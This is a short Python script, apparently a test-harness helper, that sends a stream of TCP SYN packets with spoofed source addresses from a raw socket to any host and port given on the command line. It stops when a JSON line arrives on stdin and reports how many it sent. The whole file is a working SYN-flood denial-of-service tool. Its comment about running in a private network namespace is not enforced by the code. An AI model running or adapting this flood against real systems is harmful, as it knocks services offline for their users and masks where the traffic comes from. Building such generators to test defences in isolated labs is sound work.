"""Sends SYNs of sources that do not exist and never answer, until a line comes on stdin, which it
answers with their count: syn_flood.py HOST PORT. Needs CAP_NET_RAW, and is meant for a network
namespace of its own. RFC 9293 (TCP), RFC 791 (IP)."""

import json
import select
import socket
import struct
import sys

FLAG_SYN = 0x02
WINDOW = 65535
TTL = 64
BETWEEN_LOOKS = 500
COUNT_MAX = 5_000_000
# RFC 2544: addresses for tests of networks, 198.18.0.0/15.
SOURCES_BASE = 0xC6120000
SOURCES = 1 << 17


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, source_port, target, target_port, number):
    header = struct.pack(
        "!HHIIBBHHH", source_port, target_port, number, 0, 5 << 4, FLAG_SYN, WINDOW, 0, 0
    )
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def packet(number, target, port):
    source = struct.pack("!I", SOURCES_BASE + number % SOURCES)
    tcp = segment(source, 1024 + number % 60000, target, port, number * 2654435761 & 0xFFFFFFFF)
    # The kernel fills in the checksum of the header, and the identification (raw(7)).
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, TTL, socket.IPPROTO_TCP, 0, source, target
    )
    return ip + tcp


host, port = sys.argv[1], int(sys.argv[2])
target = socket.inet_aton(host)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
while sent < COUNT_MAX and not select.select([sys.stdin], [], [], 0)[0]:
    for _ in range(BETWEEN_LOOKS):
        raw.sendto(packet(sent, target, port), (host, 0))
        sent += 1
order = json.loads(sys.stdin.readline())
print(json.dumps({"word": f"done {order['word']}", "value": sent}), flush=True)
